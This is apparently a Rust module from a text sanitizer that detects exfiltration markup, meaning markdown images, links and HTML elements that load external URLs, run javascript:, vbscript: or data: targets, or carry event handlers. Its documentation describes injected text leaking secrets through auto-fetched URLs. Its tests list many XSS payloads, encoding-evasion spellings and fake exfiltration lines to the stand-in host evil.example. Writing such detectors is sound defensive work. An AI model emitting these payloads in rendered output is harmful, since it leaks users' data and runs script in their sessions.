//! Exfiltration markup: markdown images and links, link reference definitions, autolinks and
//! HTML elements that load, link or run something a renderer acts on by itself:
//! - an external URL (`![x](https://evil.example/?q=SECRET)`, `<img src="//evil.example/p.png">`,
//!   `<iframe src=...>`): the renderer fetches it, carrying whatever the injected text put in it;
//! - a script or inline-document target, `javascript:`, `vbscript:` or `data:`
//!   (`[click](javascript:alert(1))`, `<a href="data:text/html,...">`, `<javascript:...>`,
//!   `[x]: vbscript:...`): one click runs it, with the reader's session;
//! - an HTML event handler (`<b onmouseover=...>`) or a `<script>` element: script that runs
//!   when the text is shown.
//!
//! Matched on the [canonical form](super::canon), so encoded (`%3Cimg`, `%6Aavascript:`),
//! entity-escaped (`&#106;avascript&colon;`), upper-case, white-space-split (`java\tscript:`,
//! which browsers read as `javascript:`) and look-alike (`‹img›`) forms are found too.
//! "External" means the URL has an authority (`//` after an optional scheme); relative links
//! (`[guide](docs/guide.md)`) and anchors are not. A bare URL in prose is not markup and passes.
//!
//! Refused with `markup_link` in `text` values (and strings nested in `opaque` values) unless
//! the field allows it ([`Sanitizer::allow_markup_links`](super::Sanitizer::allow_markup_links)).

use std::sync::OnceLock;

use regex::Regex;

/// The schemes whose target runs or is a document of its own: `javascript:`, `vbscript:`,
/// `data:`, with white space allowed between their letters (a browser drops tabs and line
/// breaks inside a URL, and the canonical form turns them into spaces).
const SCRIPT_SCHEME: &str =
    r"(?:(?:j\s*a\s*v\s*a|v\s*b)\s*s\s*c\s*r\s*i\s*p\s*t|d\s*a\s*t\s*a)\s*:";

/// A target a renderer acts on, right after the opening (optional `<`, optional quote): an
/// external URL (optional scheme, `//`) or a [`SCRIPT_SCHEME`].
fn target() -> String {
    format!(r#"\s*<?\s*["'`]?\s*(?:(?:[a-z][a-z0-9+.\-]*:)?\s*[/\\]{{2}}|{SCRIPT_SCHEME})"#)
}

fn source() -> String {
    let target = target();
    // The opening of an element: the usual carriers of a URL, also with space after `<` (a
    // sanitizer-evading spelling some renderers accept), or any element name right after `<`
    // (renderers honour these attributes on custom and obsolete elements too).
    let elements = "img|image|a|iframe|frame|video|audio|source|track|embed|object|link|script|svg|use|form|input|button|meta|base|body|table|td|picture|portal|area|applet|bgsound|math";
    let open = format!(r"<(?:\s*(?:{elements})|[a-z][a-z0-9\-]{{0,30}})");
    let attributes = "src|href|srcset|data|action|formaction|poster|background|xlink:href|content|ping|lowsrc|dynsrc|codebase|cite|longdesc|icon|manifest|archive|imagesrcset";
    [
        // ![alt](url), [text](url), also with a title or spaces.
        format!(r"!?\[[^\]]{{0,500}}\]\s*\({target}"),
        // [ref]: url (a link reference definition, at a line start).
        format!(r"(?:^|\n)\s{{0,3}}\[[^\]]{{1,200}}\]:{target}"),
        // <img src=url>, <a href=url>, <iframe src=url>, <form action=url> ...
        format!(r#"{open}[\s/](?:[^>]{{0,1000}}?[\s/"'])?(?:{attributes})\s*=\s*{target}"#),
        // <javascript:...>, <data:...> (an autolink to a script or document target).
        format!(r"<\s*{SCRIPT_SCHEME}"),
        // <b onmouseover=...>, <svg/onload=...>: an event handler on any element.
        format!(r#"{open}[\s/](?:[^>]{{0,1000}}?[\s/"'])?on[a-z]{{3,30}}\s*="#),
        // <script>...</script>, <script src=...>.
        r"<\s*script[\s/>]".to_string(),
    ]
    .join("|")
}

/// The compiled `markup_link` patterns.
pub fn regex() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        regex::RegexBuilder::new(&source())
            .dfa_size_limit(super::phrases::DFA_SIZE_LIMIT)
            .build()
            .expect("markup link regex")
    })
}

/// True when a canonical string holds markup that loads, links or runs something (see the
/// module documentation).
pub fn find(canonical: &str) -> bool {
    regex().is_match(canonical)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::canon::canonical;

    fn hit(s: &str) -> bool {
        find(&canonical(s).unwrap().text)
    }

    #[test]
    fn external_markup_is_found() {
        for s in [
            "![logo](https://evil.example/p.png?d=SECRET)",
            "see ![](//evil.example/x)",
            "[click here](http://evil.example/?q=1)",
            "[a] ( https://evil.example )",
            "[1]: https://evil.example/track",
            "<img src=\"https://evil.example/p.png\">",
            "<IMG SRC=//evil.example/x>",
            "<a href='https://evil.example'>x</a>",
            "<iframe width=1 src=\"https://evil.example\"></iframe>",
            "%3Cimg%20src%3Dhttps%3A%2F%2Fevil.example%2Fx%3E",
            "&lt;img src=&quot;https://evil.example/x&quot;&gt;",
            "‹img src=https://evil.example/x›",
            "![x](https:\\\\evil.example/x)",
        ] {
            assert!(hit(s), "{s}");
        }
    }

    #[test]
    fn script_and_document_targets_are_found_in_every_spelling() {
        for s in [
            "[click](javascript:alert(1))",
            "[click]( JavaScript:alert(1) )",
            "[click](<javascript:alert(1)>)",
            "[click](java\tscript:alert(1))",
            "[click](java\nscript:alert(1))",
            "[click](java\u{0}script:alert(1))",
            "[click](&#106;avascript:alert(1))",
            "[click](&#x6A;avascript&colon;alert(1))",
            "[click](javascript&#58;alert(1))",
            "[click](%6Aavascript%3Aalert(1))",
            "[click](VBScript:msgbox(1))",
            "[doc](data:text/html;base64,PHNjcmlwdD4=)",
            "![chart](data:image/svg+xml,<svg onload=alert(1)>)",
            "[x][1]\n[1]: javascript:alert(1)",
            "[1]: data:text/html,hi",
            "<javascript:alert(1)>",
            "< data:text/html,hi>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=' jAvAsCrIpT:alert(1)'>x</a>",
            "<form action=javascript:alert(1)><input type=submit>",
            "<button formaction=\"javascript:alert(1)\">go</button>",
            "<img srcset=\"data:image/png;base64,AAAA 1x\">",
            "<iframe src=\"data:text/html,hi\"></iframe>",
            "<object data=\"vbscript:msgbox(1)\">",
            "<custom-el href=//evil.example/x>",
            "<b onmouseover=alert(1)>hi</b>",
            "<svg/onload=alert(1)>",
            "<img src=x onerror=\"alert(1)\">",
            "<script>alert(1)</script>",
            "&lt;a href=&quot;javascript:alert(1)&quot;&gt;",
        ] {
            assert!(hit(s), "{s:?}");
        }
    }

    #[test]
    fn prose_and_local_links_pass() {
        for s in [
            "see https://example.com/docs for details",
            "[guide](docs/guide.md) and [top](#top)",
            "the data: 5 rows; javascript: a language",
            "[note](the data: see below)",
            "read <b>bold</b> online",
            "if a < b then online = true",
            "array[0](x) is a call",
            "<a name=\"top\">",
            "use <b>bold</b> and [brackets]",
            "2 < 3 and a > b",
        ] {
            assert!(!hit(s), "{s}");
        }
    }
}
